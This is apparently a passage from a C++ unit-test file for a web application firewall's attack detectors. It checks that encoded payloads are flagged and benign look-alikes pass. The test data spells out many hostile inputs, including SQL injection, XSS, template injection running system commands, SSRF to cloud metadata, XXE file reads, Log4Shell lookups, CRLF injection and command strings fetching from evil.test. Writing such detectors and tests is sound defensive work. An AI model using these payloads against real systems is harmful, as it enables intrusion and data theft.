  Req split = form("p%3D%3Bdrop");
  split.paranoia = 2;
  EXPECT_TRUE(detects(split, AttackClass::Sqli));
}

TEST_F(DetectorsTest, ProbeFalsePositives) {
  for (const char* q :
       {"Baleares+%28Illes%29", "Delete+%28Trashcan%29", "and+7+oranges", "4or3554e0a",
        "sad+%3A%28", "price+%3E%3D+100+dollars", "round+table", "I+like+cats", "rock+and+roll",
        "%27Bold%27+and+%27italic%27", "pip+is+a+tool", "top+10+songs", "head+office%3B+tail+end",
        "Tom+said+%27hi%27", "insertion%3B+then+more", "a%3D%3Db+is+how+you+compare", "~5+minutes",
        "executor%28%29", "my_function%28x%29+returns+1", "env+file", "chef+special",
        "count+%28approx%29", "1%2C2%2C3", "2147483648", "a%7Cb%7Cc", "x%7C%7C", "%7C+a+%7C+b+%7C",
        "%3E%3D", "%3C%3E", "kitchen+scale+%7C", "P%40ss%3Bw0rd%7C", "TL%3BDR+--+use+what+works",
        "Execute+the+plan+today", "in+case+when+it%27s+late%2C+then+call", "from+London+as+a+student",
        "from+home+where+I+live", "size+10+and", "%22Order+now%22",
        "%22Union+Station%22", "for+a+while+(approx.)", "ansible+tutorial", "tcpdump+examples",
        "netstat+options"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  // a query builder's operator, an avatar upload as a data: URL
  EXPECT_TRUE(clean(json(R"({"filter":{"field":"price","op":">=","value":10}})")));
  EXPECT_TRUE(clean(json(R"({"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="})")));
  EXPECT_TRUE(detects(json(R"({"u":"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"})"),
                      AttackClass::Xss));
}

// Techniques found missing by a hand-written set of attacks the rules were not tuned on.
TEST_F(DetectorsTest, NormalisationGapsFromUnseenAttacks) {
  // mail header injection into an address field; CR/LF spelled as U+560A/U+560D; "\r\n" text
  EXPECT_TRUE(detects(query("a%40b.example%0d%0aBcc%3A%20victim%40corp.example"), AttackClass::Crlf));
  EXPECT_TRUE(detects(query("%E5%98%8A%E5%98%8DSet-Cookie%3A%20s%3D1"), AttackClass::Crlf));
  EXPECT_TRUE(detects(query("x%5Cr%5CnLocation%3A%20http%3A%2F%2Fe.example"), AttackClass::Crlf));
  // LDAP filter breakout written with RFC 4515 escapes
  EXPECT_TRUE(detects(query("%5C2a)(%5C75id%3D%5C2a"), AttackClass::Ldapi));
  // a DNS-rebinding host
  EXPECT_TRUE(detects(query("http%3A%2F%2F7f000001.a9fea9fe.rbndr.us%2Fadmin"), AttackClass::Ssrf));
  // a multipart filename whose quotes do not pair up
  const Req upload{"POST",
                   "/upload",
                   {{"Content-Type", "multipart/form-data; boundary=b0undary"}},
                   "--b0undary\r\nContent-Disposition: form-data; name=\"f\"; "
                   "filename=\"\"><svg onload=alert(1)>.png\"\r\n\r\nx\r\n--b0undary--\r\n"};
  EXPECT_FALSE(clean(upload));
  // and what must stay clean
  EXPECT_TRUE(clean(json(R"({"message":"Hello,\nTo: whom it may concern\nSubject: my order"})")));
  EXPECT_TRUE(clean(query("C%3A%5Cdata%5C2024")));
  EXPECT_TRUE(clean(query("https%3A%2F%2Fcdn.example.com%2Fa1b2c3d4%2Fimg.png")));
}

// The clean-value cache must not let a bare token skip the split at a decoded '=': the same
// text seen first as a value (clean) and then as a bare token (an SSRF after the '=').
TEST_F(DetectorsTest, CleanCacheKeepsBareTokensApart) {
  EXPECT_TRUE(clean(Req{"GET", "/r?q=u%3Dgopher%3A%2F%2Fx", {}, ""}));
  EXPECT_TRUE(detects(Req{"GET", "/r?u%3Dgopher%3A%2F%2Fx", {}, ""}, AttackClass::Ssrf));
}

// A multipart file name outside the form's charset arrives as numeric character references.
TEST_F(DetectorsTest, MultipartNumericCharacterReferences) {
  const Req upload{"POST",
                   "/upload",
                   {{"Content-Type", "multipart/form-data; boundary=b0undary"}},
                   "--b0undary\r\nContent-Disposition: form-data; name=\"f\"; "
                   "filename=\"caf&#233; &#x1F600;.png\"\r\n\r\nx\r\n--b0undary--\r\n"};
  EXPECT_TRUE(clean(upload));
}

TEST_F(DetectorsTest, CodeInjection) {
  EXPECT_TRUE(
      detects(query("%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"), AttackClass::CodeInjection));
  EXPECT_TRUE(detects(query("php://filter/convert.base64-encode/resource=index"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(detects(json(R"j({"x":"T(java.lang.Runtime).getRuntime().exec('id')"})j"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(detects(json(R"({"__proto__":{"isAdmin":true}})"), AttackClass::CodeInjection));
  EXPECT_TRUE(detects(json(R"({"user":{"constructor":{"prototype":{"isAdmin":true}}}})"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(clean(json(R"({"constructor":"Acme Builders","prototype":"v2","stage":"built"})")));
  EXPECT_TRUE(
      detects(query("require('child_process').execSync('id')"), AttackClass::CodeInjection));
  EXPECT_TRUE(detects(query("%3C!--%23exec%20cmd=%22ls%22--%3E"), AttackClass::CodeInjection));
  // Edge-side includes: a CDN or cache that processes ESI fetches or evaluates them.
  EXPECT_TRUE(detects(query("%3Cesi%3Ainclude%20src%3D%22http%3A%2F%2Fevil.example%2F%22%2F%3E"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(detects(json(R"({"q":"<esi:vars>$(HTTP_COOKIE)</esi:vars>"})"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(clean(query("esi%3A+edge+side+includes+explained")));
  // printf format strings that read or write the stack; date formats and prose with one
  // conversion are data.
  for (const char* q : {"%25s%25s%25s%25s%25s%25n", "%25x%25x%25x%25x", "AAAA%25p%25p%25p%25p",
                        "%25n%25n%25n%25n"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Protocol)) << q;
  }
  for (const char* q : {"%25Y-%25m-%25d+%25H%3A%25M", "%25x+%25X+%25p", "Hello+%25s%2C+you+have+%25d+new",
                        "100%25+cotton+50%25+off"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  EXPECT_TRUE(clean(query("print+the+invoice")));
  EXPECT_TRUE(clean(json(R"({"note":"system (re)design meeting at 10"})")));
}

TEST_F(DetectorsTest, Ssti) {
  EXPECT_TRUE(detects(query("%7B%7B7*191%7D%7D"), AttackClass::Ssti));
  EXPECT_TRUE(detects(query("%7B%7Bself.__init__.__globals__%7D%7D"), AttackClass::Ssti));
  EXPECT_TRUE(detects(query("%24%7B11*11%7D"), AttackClass::Ssti));
  // Jinja2/Twig arithmetic on a string literal: '7'*7 repeats the string.
  EXPECT_TRUE(detects(query("%7B%7B7*%277%27%7D%7D"), AttackClass::Ssti));
  EXPECT_TRUE(detects(query("%7B%7B%277%27*7%7D%7D"), AttackClass::Ssti));
  // Twig's callable filters given a PHP function by name; an arrow function is a template.
  EXPECT_TRUE(detects(query("%7B%7B%5B%27id%27%5D%7Cfilter(%27system%27)%7D%7D"), AttackClass::Ssti));
  EXPECT_TRUE(detects(query("%7B%7B%5B%27cat+%2Fetc%2Fpasswd%27%5D%7Cmap(%27passthru%27)%7D%7D"),
                      AttackClass::Ssti));
  EXPECT_TRUE(clean(json(R"({"template":"{{ users|map(u => u.name)|join(', ') }}"})")));
  EXPECT_TRUE(clean(query("%7B%7Bname%7D%7D+placeholder")));
  EXPECT_TRUE(clean(query("%7B%7Bsize%7D%7D+x+%277%27+-+%278%27")));
  EXPECT_TRUE(clean(json(R"({"query":"query Q($id: ID!) { node(id: $id) { id } }"})")));
}

TEST_F(DetectorsTest, Ssrf) {
  EXPECT_TRUE(detects(query("http://169.254.169.254/latest/meta-data/"), AttackClass::Ssrf));
  EXPECT_TRUE(detects(query("http://127.0.0.1:6379/"), AttackClass::Ssrf));
  EXPECT_TRUE(detects(query("gopher://10.0.0.5:25/_HELO"), AttackClass::Ssrf));
  EXPECT_TRUE(detects(query("http://[::1]/admin"), AttackClass::Ssrf));
  EXPECT_TRUE(detects(query("http://2130706433/"), AttackClass::Ssrf));
  EXPECT_TRUE(clean(query("https://www.example.org/blog?utm=1")));
  EXPECT_TRUE(
      clean(Req{"GET", "/cb?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback", {}, ""}));
}

TEST_F(DetectorsTest, Xxe) {
  const std::string xxe =
      R"(<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>)";
  EXPECT_TRUE(detects(Req{"POST", "/import", {{"Content-Type", "application/xml"}}, xxe},
                      AttackClass::Xxe));
  EXPECT_TRUE(
      clean(Req{"POST",
                "/import",
                {{"Content-Type", "application/xml"}},
                R"(<?xml version="1.0"?><order id="7"><item>Fish &amp; chips</item></order>)"}));
}

TEST_F(DetectorsTest, Nosqli) {
  EXPECT_TRUE(detects(Req{"GET", "/login?user=admin&pass[$ne]=x", {}, ""}, AttackClass::Nosqli));
  EXPECT_TRUE(detects(json(R"({"user":"admin","pass":{"$gt":""}})"), AttackClass::Nosqli));
  EXPECT_TRUE(detects(json(R"({"q":"{\"$where\": \"sleep(100)\"}"})"), AttackClass::Nosqli));
  EXPECT_TRUE(clean(json(R"({"price":"$25","currency":"USD"})")));
}

TEST_F(DetectorsTest, XpathBreakout) {
  for (const char* q : {"%27+or+count(%2Fchild%3A%3Anode())%3E0+or+%27", "%27%5D+%7C+%2F%2Fuser%2F*%5Bcontains(*%2C%27",
                        "x%27+or+name(%2F*%5B1%5D)%3D%27root", "%22+or+%2F%2F*+or+%22"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
  // Quotes, "or" and paths in ordinary text; PHP's parent:: and self:: in code.
  for (const char* q : {"%27rock%27+or+%2Fmusic%2Fjazz", "%22yes%22+or+no", "parent%3A%3A__construct()",
                        "it%27s+and+%2Fhome+page"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, Ldapi) {
  EXPECT_TRUE(detects(query("jdoe)(%7C(mail=*)"), AttackClass::Ldapi));
  EXPECT_TRUE(detects(query("*)(objectClass=*"), AttackClass::Ldapi));
  EXPECT_TRUE(clean(query("(a%2Bb)*c")));
  EXPECT_TRUE(clean(query("(cn=John)")));
  EXPECT_TRUE(clean(query("smile+:)")));
}

TEST_F(DetectorsTest, Log4shell) {
  EXPECT_TRUE(detects(header("X-Api-Version", "${jndi:ldap://e.test/a}"), AttackClass::Log4shell));
  EXPECT_TRUE(detects(header("User-Agent", "${${lower:j}${upper:n}${::-d}i:rmi://e.test/x}"),
                      AttackClass::Log4shell));
  EXPECT_TRUE(
      detects(query("%24%7B%24%7Benv:NOPE:-j%7Dndi:dns://e.test%7D"), AttackClass::Log4shell));
  EXPECT_TRUE(detects(header("Accept", "${jndi:ldap://e.test/a}"), AttackClass::Log4shell));
  EXPECT_TRUE(clean(query("%24%7Bprice%7D+template")));
}

TEST_F(DetectorsTest, Crlf) {
  EXPECT_TRUE(detects(query("en%0D%0ASet-Cookie:%20sid=evil"), AttackClass::Crlf));
  EXPECT_TRUE(
      detects(Req{"GET", "/r?next=%0d%0aLocation:%20https://e.test", {}, ""}, AttackClass::Crlf));
  EXPECT_TRUE(clean(form("msg=line+one%0D%0Aline+two")));
  // A line break in a nested escape ("%" "%0a" "0a"): in a parameter, a header, a cookie.
  EXPECT_TRUE(inspect(query("%2F%25%250a0aSet-Cookie%3Acrlf%3Dx")).attack());
  EXPECT_TRUE(inspect(header("X-Context", "/%%0A0aX-Injected: 1")).attack());
  EXPECT_TRUE(inspect(Req{"GET", "/", {{"Cookie", "theme=%%0d0aLocation:%20x"}}, ""}).attack());
  // Benign twins: a percentage before a line break, a line of hex after it.
  for (const char* q : {"100%25%0A0a%20b", "50%25%0Anext%3A%20line", "a%25%0A0d0a"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, CrlfInPathAndNames) {
  EXPECT_TRUE(detects(Req{"GET", "/a%0d%0aX-Evil:%201", {}, ""}, AttackClass::Crlf));
  EXPECT_TRUE(detects(Req{"GET", "/p?x%0d%0a=1", {}, ""}, AttackClass::Crlf));
  EXPECT_TRUE(detects(Req{"GET", "/p?a=1%0Dinjected=2", {}, ""}, AttackClass::Crlf));
}

TEST_F(DetectorsTest, EncodingEvasions) {
  EXPECT_TRUE(
      detects(query("%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-"), AttackClass::Xss));
  EXPECT_TRUE(detects(query("http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/"),
                      AttackClass::Ssrf));
  EXPECT_TRUE(detects(query("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd"), AttackClass::PathTraversal));
  EXPECT_TRUE(detects(query("1%A0union%A0select%A0null"), AttackClass::Sqli));
  EXPECT_TRUE(detects(query("un/**/ion+sel/**/ect+1,2"), AttackClass::Sqli));
  EXPECT_TRUE(detects(query("%3Bc%24%40at%20/et%5Bc%5D/pas%24%40swd"), AttackClass::Rce));
}

TEST_F(DetectorsTest, Scanner) {
  EXPECT_TRUE(detects(header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
                      AttackClass::Scanner));
  EXPECT_TRUE(detects(header("User-Agent", "Mozilla/5.00 (Nikto/2.5.0)"), AttackClass::Scanner));
  EXPECT_TRUE(detects(Req{"GET", "/backup/site.sql", {}, ""}, AttackClass::Scanner));
  EXPECT_TRUE(detects(Req{"GET", "/.git/config", {}, ""}, AttackClass::Scanner));
  EXPECT_TRUE(detects(Req{"GET", "/index.php.bak", {}, ""}, AttackClass::Scanner));
  // Developer-tool configurations (MCP servers, agent settings with keys) are never served.
  for (const char* p : {"/.cursor/mcp.json", "/app/.claude/settings.local.json", "/.codex/config.toml",
                        "/.cursorignore"}) {
    EXPECT_TRUE(detects(Req{"GET", p, {}, ""}, AttackClass::Scanner)) << p;
  }
  // Served dot-directories of hosting platforms stay PL2 probes at most.
  EXPECT_TRUE(clean(Req{"GET", "/.netlify/functions/subscribe", {}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/.auth/login/aad/callback", {}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/docs/cursor/mcp.json", {}, ""}));
  EXPECT_TRUE(clean(header("User-Agent", "kube-probe/1.29")));
  EXPECT_TRUE(clean(Req{"GET", "/.well-known/openid-configuration", {}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/downloads/report-2024.pdf", {}, ""}));
  // A dot segment left in the path: clients remove them; a filter and a router that do not
  // normalise alike see two paths.
  EXPECT_TRUE(detects(Req{"POST", "/./RestAPI/Connection", {}, ""}, AttackClass::Protocol));
  EXPECT_TRUE(detects(Req{"POST", "/mifs/.;/services/LogService", {}, ""}, AttackClass::Protocol));
  EXPECT_TRUE(clean(Req{"GET", "/.well-known/security.txt", {}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/assets/v1.2.3/app.js", {}, ""}));
  // A server script with a path parameter ending like a static file: the static-file filter
  // lets it through, the container runs the script.
  EXPECT_TRUE(detects(Req{"GET", "/clusterMgr/x.jsp;.js", {}, ""}, AttackClass::Protocol));
  EXPECT_TRUE(detects(Req{"GET", "/admin/users.do;.css?x=1", {}, ""}, AttackClass::Protocol));
  EXPECT_TRUE(clean(Req{"GET", "/shop/cart.jsp;jsessionid=0A1B2C3D4E5F", {}, ""}));
  EXPECT_TRUE(clean(Req{"GET", "/static/app.js;v=3", {}, ""}));
  // Out-of-band interaction hosts in any part: the payload reports back when it is fetched,
  // looked up or logged.
  EXPECT_TRUE(detects(query("u%3Dhttps%3A%2F%2Fc5k2.oast.fun%2Fx"), AttackClass::Scanner));
  EXPECT_TRUE(detects(header("X-Forwarded-For", "c5k2abc.interact.sh"), AttackClass::Scanner));
  EXPECT_TRUE(detects(Req{"GET", "/proxy/http/x1y2.burpcollaborator.net/", {}, ""}, AttackClass::Scanner));
  EXPECT_TRUE(clean(query("q%3Dinteract%2Eshape+of+the+coast+fun")));
  EXPECT_TRUE(clean(query("site%3Dhttps%3A%2F%2Ftoast.fun.example%2F")));
  // Database dumps and site backups in an archive: what scanners fetch after a dump is made.
  for (const char* p : {"/db/dump.sql.gz", "/backup.sql.zip", "/data.sqlite.tar.gz", "/www.zip",
                        "/old/backup.tar.gz", "/public_html.rar"}) {
    EXPECT_TRUE(detects(Req{"GET", p, {}, ""}, AttackClass::Scanner)) << p;
  }
  for (const char* p : {"/downloads/sqlite-tools.zip", "/releases/app-1.2.tar.gz",
                        "/docs/www.zip-format.html", "/sql.gz/readme", "/assets/backup-icon.png"}) {
    EXPECT_TRUE(clean(Req{"GET", p, {}, ""})) << p;
  }
}

TEST_F(DetectorsTest, Protocol) {
  EXPECT_TRUE(detects(Req{"POST",
                          "/f",
                          {{"Content-Type", "application/x-www-form-urlencoded; charset=ibm500"}},
                          "a=b"},
                      AttackClass::Protocol));
  EXPECT_TRUE(detects(query("a%00b"), AttackClass::Protocol));
  EXPECT_TRUE(
      clean(Req{"POST", "/f", {{"Content-Type", "application/json; charset=utf-8"}}, "{}"}));
  // An Accept charset that re-encodes the response into EBCDIC or UTF-7; another odd charset
  // is a PL2 probe, and browsers send none.
  EXPECT_TRUE(detects(header("Accept", "text/html;q=0.9;charset=CP1026,*/*;q=0.8"),
                      AttackClass::Protocol));
  EXPECT_TRUE(detects(header("Accept", "text/html; charset=\"utf-7\""), AttackClass::Protocol));
  EXPECT_TRUE(clean(header("Accept", "text/html; charset=koi8-r")));
  EXPECT_TRUE(clean(header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")));
}

TEST_F(DetectorsTest, BenignApiTraffic) {
  EXPECT_TRUE(clean(json(
      R"({"firstName":"Seán","lastName":"O'Hara","notes":"Ring twice; it's the 2nd door -- thanks!"})")));
  EXPECT_TRUE(clean(
      Req{"GET", "/api/v1/items?filter[status]=open&sort=-created_at&page[size]=20", {}, ""}));
  EXPECT_TRUE(
      clean(header("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl")));
  EXPECT_TRUE(clean(header("Cookie", "_ga=GA1.1.12.34; theme=dark; cart=%5B%22sku-1%22%5D")));
  EXPECT_TRUE(clean(
      Req{"GET", "/healthz", {{"User-Agent", "kube-probe/1.30"}, {"Host", "10.1.2.3:8080"}}, ""}));
}

TEST_F(DetectorsTest, FindingsNameThePart) {
  const Verdict v = inspect(Req{"GET", "/p?id=1%27%20or%20%271%27%3D%271", {}, ""});
  ASSERT_TRUE(v.attack());
  EXPECT_EQ(v.findings.front().part, "query:id");
  EXPECT_GT(v.findings.front().ruleId, 0u);
  const Verdict j = inspect(json(R"({"user":{"name":"<script>x()</script>"}})"));
  ASSERT_TRUE(j.attack());
  EXPECT_EQ(j.findings.front().part, "body.json:user.name");
}

TEST_F(DetectorsTest, Limits) {
  EngineConfig cfg;
  cfg.maxArgs = 4;
  cfg.onLimit = EngineConfig::OnLimit::Block;
  auto e = Engine::create(cfg);
  ASSERT_TRUE(e);
  const std::vector<Header> hs;
  RequestView r;
  r.method = "GET";
  r.target = "/?a=1&b=2&c=3&d=4&e=5&f=6";
  r.headers = hs;
  const Verdict v = (*e)->inspect(r);
  EXPECT_TRUE(v.limitExceeded);
  EXPECT_TRUE(v.blockForLimit);
  EXPECT_TRUE(v.attack());

  cfg.onLimit = EngineConfig::OnLimit::Inspect;
  auto e2 = Engine::create(cfg);
  ASSERT_TRUE(e2);
  const Verdict v2 = (*e2)->inspect(r);
  EXPECT_TRUE(v2.limitExceeded);
  EXPECT_FALSE(v2.attack());
}

// The CPU time budget: a request that cannot be inspected within it is reported (and blocked
// with onLimit Block) instead of inspected for as long as it takes; small requests never read
// the clock and never run out.
TEST_F(DetectorsTest, TimeBudgetFailsClosed) {
  // 2 MiB of JSON values with markup, quotes and separators (each reaches the grammars), and
  // an attack at the end.
  std::string body = "[";
  for (int i = 0; body.size() < (2u << 20); ++i) {
    body += "\"it's <b>item " + std::to_string(i) + "</b> (a; b | c) = 'd' or e -- f\",";
  }
  body += "\"1' union select password from users--\"]";
  const std::vector<Header> hs{{"Content-Type", "application/json"}};
  RequestView big;
  big.method = "POST";
  big.target = "/api/items";
  big.headers = hs;
  big.body = body;
  EngineConfig cfg;
  cfg.maxBodyBytes = body.size();
  cfg.maxArgs = 1u << 20;
  cfg.timeBudget = std::chrono::microseconds(1);
  cfg.onLimit = EngineConfig::OnLimit::Block;
  auto tight = Engine::create(cfg);
  ASSERT_TRUE(tight);
  const Verdict v = (*tight)->inspect(big);
  EXPECT_TRUE(v.budgetExceeded);
  EXPECT_TRUE(v.limitExceeded);
  EXPECT_TRUE(v.attack()); // blockForLimit: the attack at the end was never reached
  EXPECT_TRUE(v.findings.empty());
  // Without a budget the same request is inspected to its end.
  cfg.timeBudget = std::chrono::microseconds(0);
  cfg.onLimit = EngineConfig::OnLimit::Inspect;
  auto none = Engine::create(cfg);
  ASSERT_TRUE(none);
  const Verdict all = (*none)->inspect(big);
  EXPECT_FALSE(all.budgetExceeded);
  EXPECT_TRUE(all.attack());
  EXPECT_FALSE(all.findings.empty());
  // A small request under the tightest budget is inspected whole.
  cfg.timeBudget = std::chrono::microseconds(1);
  auto small = Engine::create(cfg);
  ASSERT_TRUE(small);
  RequestView get;
  get.method = "GET";
  get.target = "/search?q=1%27+union+select+password+from+users--&page=2";
  get.headers = hs;
  const Verdict g = (*small)->inspect(get);
  EXPECT_FALSE(g.budgetExceeded);
  EXPECT_TRUE(g.attack());
}

// Values found clean are remembered per thread; what was remembered must never hide an attack
// in a later request.
TEST_F(DetectorsTest, CleanValuesRememberedOnlyWhenClean) {
  // The second copy of a value adds no finding (same rule, same part), yet it is not clean.
  const std::string sqli = "1%27%20union%20select%20password%20from%20users--";
  EXPECT_TRUE(detects(query(sqli + "&q=" + sqli), AttackClass::Sqli));
  EXPECT_TRUE(detects(query(sqli), AttackClass::Sqli));
  const std::string shortSqli = "1%27or%271";
  EXPECT_TRUE(detects(query(shortSqli + "&q=" + shortSqli), AttackClass::Sqli));
  EXPECT_TRUE(detects(query(shortSqli), AttackClass::Sqli));

  // A value whose base64 text was cut by the argument limit was not inspected in full.
  EngineConfig cfg;
  cfg.maxArgs = 3; // the path, the cookie name, its value: the value's base64 text is one too many
  auto e = Engine::create(cfg);
  ASSERT_TRUE(e);
  RequestView r;
  r.method = "GET";
  r.target = "/";
  const std::string payload = "PHNjcmlwdD5hbGVydCgxMjMpPC9zY3JpcHQ+"; // <script>alert(123)</script>
  const std::string named = "p=" + payload;
  const std::vector<Header> cut = {{"Cookie", named}};
  r.headers = cut;
  EXPECT_TRUE((*e)->inspect(r).limitExceeded);
  const std::vector<Header> whole = {{"Cookie", payload}};
  r.headers = whole;
  const Verdict v = (*e)->inspect(r);
  EXPECT_FALSE(v.limitExceeded);
  EXPECT_TRUE(v.attack());
}

// Hostile shapes must not make inspection super-linear: 128 KiB bodies of repeated fragments.
TEST_F(DetectorsTest, PathologicalInputsStayFast) {
  for (const char* unit : {"on=", "<a ", "${", "'", "%25", "((((", "/*", "<svg onload", "\\u00",
                           "&#", "a)(", "$(", ";cat ", "../", "union select ", "{{"}) {
    std::string body;
    while (body.size() < 128 * 1024) {
      body += unit;
    }
    const auto start = std::chrono::steady_clock::now();
    inspect(Req{"POST", "/", {{"Content-Type", "text/plain"}}, body});
    inspect(json("{\"a\":\"" + body.substr(0, 60000) + "\"}"));
    const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                        std::chrono::steady_clock::now() - start)
                        .count();
    EXPECT_LT(ms, 1500) << "unit " << unit;
  }
}

TEST_F(DetectorsTest, AttributesAcrossStrayTagOpenersAreReadOnce) {
  // Attributes after a stray '<' are still read (once), and each tag's own checks still run.
  EXPECT_TRUE(detects(query("%3Csvg%20%3Cb%20onload%3Dalert(1)%3E"), AttackClass::Xss));
  EXPECT_TRUE(detects(query("%3Ca%20x%20%3Cmeta%20http-equiv%3Drefresh%20content%3D%220%3Burl%3Dhttp%3A%2F%2Fevil.example%2F%22%3E"),
                      AttackClass::Xss));
  std::string body;
  while (body.size() < 256 * 1024) {
    body += "<svg onload";
  }
  const auto start = std::chrono::steady_clock::now();
  inspect(Req{"POST", "/", {{"Content-Type", "text/plain"}}, body});
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                      std::chrono::steady_clock::now() - start)
                      .count();
  EXPECT_LT(ms, 1000); // linear: about 20 ms; it used to read every tag's attributes to the end
}

TEST_F(DetectorsTest, StopAtFirst) {
  EngineConfig cfg;
  cfg.stopAtFirst = true;
  auto e = Engine::create(cfg);
  ASSERT_TRUE(e);
  const std::vector<Header> hs;
  RequestView r;
  r.method = "GET";
  r.target = "/?a=%3Cscript%3Ex%3C/script%3E&b=1%20union%20select%202";
  r.headers = hs;
  EXPECT_EQ((*e)->inspect(r).findings.size(), 1u);
}

// --- generalised technique rules (1030-1038, 2020-2027, 4030-4038, 5030-5037, 7020-7023)

TEST_F(DetectorsTest, SqliTechniqueShapes) {
  for (const char* q :
       {"%27%3B%20drop%20table%20invoices", "%3Btruncate%5Bledger", "x%3Bdelete%2F%2A%2A%2Ffrom+t",
        "SET%20%40saved_mode%3D1", "id%3D(select%20pass%20from%20u)", "SELECT%20(CASE%20WHEN%201",
        "%7C%7C%20userRole%20%3D%3D", "AND%20page_id!%3D", "q%27%2Bname--", "u%27%20or%3F--",
        "%27%7C%7Cfalse", "%27%7B%22k%22%3A1%7D%27%20-%3E%3E%20%27k%27",
        "lo_get(1)::text", "xp_fixeddrives", "sp_oacreate%20%27x%27", "pg_sleep",
        "DELETE%20FROM%20sessions%3B--", "%60%20AS%20%60pw%60%20FROM", "x)%20like%20(%27a",
        "ops%40corp.test%27%3B", "bob%22%2F%2A%20c%20%2A%2F%3B", "DEL%2F%2A%2A%2FETE", "%2F%2A!40000union%2A%2F",
        "%27%20xor%201%3E", "2.e(version)", "select%200x41424344", "HAVING%205%3E3"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
  }
  for (const char* q :
       {"drop+me+a+line%3B+update+soon", "set+%40john+as+owner+please", "or+else+the+deal+fails",
        "rock+%27n%27+roll+--+live", "i.e.+the+plan", "order+%23123+%E2%80%93+shipped",
        "xorg+config+help", "known+as+%27Bo%27+from+Ohio", "I+like+(really)+it",
        "she+said+%27hi%27%3B+then+left", "select+(one)+option", "a+%2F*+b+*%2F+c", "Cost+%3D+(price+*+qty)"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
}

TEST_F(DetectorsTest, RceTechniqueShapes) {
  for (const char* q :
       {"wh$()oami", "wh``oami%20-a", "%22%22w%22%22h%22%22o%22%22a%22%22m%22%22i", "%7Bcat,/etc/hosts%7D",
        "%7B,uname,-a%7D", "%7Bwhoami,%7D", "()%20%7B%20true", "%3Bvisudo", "%3B%20lastlog%20-u",
        "a%0D%0AMAIL%20FROM%3A%3Cx%40y.test%3E", "%0D%0Ab7%20FETCH%201%20(BODY)",
        "cat%20/%5Bv//%5Dar/log", "%24%7BPWD%25%25/*%7D", "%3E(nc%20host)", "alias%20ll%3D%27id%27",
        "x%3Dwget%3B%24x%20-q%20evil.test", "if%20%22%25A%25%22%3D%3D%22b%22%20(dir)",
        "%3Bat%2011%3A30%20%2Fi", "%0D%0Aapop%20bob%20c4ca4238a0b923820dcc509a6f75849b"}) {
    EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
  }
  for (const char* q :
       {"%7Bred,green%7D", "%7B%22a%22%3A1,%22b%22%3A2%7D", "(%20)%20smile", "alias+for+bob",
        "meet+at+10%3A30+tomorrow", "x%3D1%3B+y%3D2", "mail+from+home",
        "users%2F%5Bid%5D%2Fedit", "What+%24%7Bprice%7D"}) {
    EXPECT_TRUE(clean(query(q))) << q;
  }
  // JSF's own parameters name form fields in the javax.faces / jakarta.faces namespace.
  EXPECT_TRUE(clean(form("javax.faces.ViewState=-4837275916484372212%3A-2345123409871234"
                         "&javax.faces.partial.ajax=true&javax.faces.source=j_idt12%3Abtn")));
  EXPECT_TRUE(clean(form("jakarta.faces.ViewState=1%3A2")));
  // GWT-RPC names the Java type of every argument.
  EXPECT_TRUE(clean(Req{"POST",
                        "/app/greet",
                        {{"Content-Type", "text/x-gwt-rpc; charset=utf-8"}},
                        "7|0|6|http://app.example.com/app/|29F4EA1240F157649C12466F01F46F60|"
                        "com.example.client.GreetingService|greetServer|java.lang.String/"
                        "2004016611|World|1|2|3|4|1|5|6|"}));
  EXPECT_TRUE(detects(query("javax.naming.InitialContext"), AttackClass::CodeInjection));
  // A package named in a search or a sentence is text; alone or inside code it is a class.
  EXPECT_TRUE(clean(query("java.util.concurrent+tutorial")));
  EXPECT_TRUE(clean(query("upgrade+org.apache.kafka+to+3.7%3F")));
  EXPECT_TRUE(detects(query("T(java.lang.Runtime).exec(%27id%27)"), AttackClass::CodeInjection));
  EXPECT_TRUE(detects(json(R"({"@type":"com.sun.rowset.RowSetImpl","dataSourceName":"x"})"),
                      AttackClass::CodeInjection));
  EXPECT_TRUE(detects(form("javax.faces.x=javax.management.loading.MLet"),
                      AttackClass::CodeInjection));
  // A command assembled from variables the value defines is one; a chain of '$' names without
  // a definition is data (ASP.NET WebForms control names: ctl00$Main$Grid$ctl02$Edit).
  EXPECT_TRUE(detects(query("a%3Dwh%3Bb%3Doa%3Bc%3Dmi%3B%24a%24b%24c"), AttackClass::Rce));
  // A long chain of undefined names is read once (no pass over the value per name).
  {
    std::string chain;
    for (int i = 0; i < 20000; ++i) {
      chain += "%24a";
    }
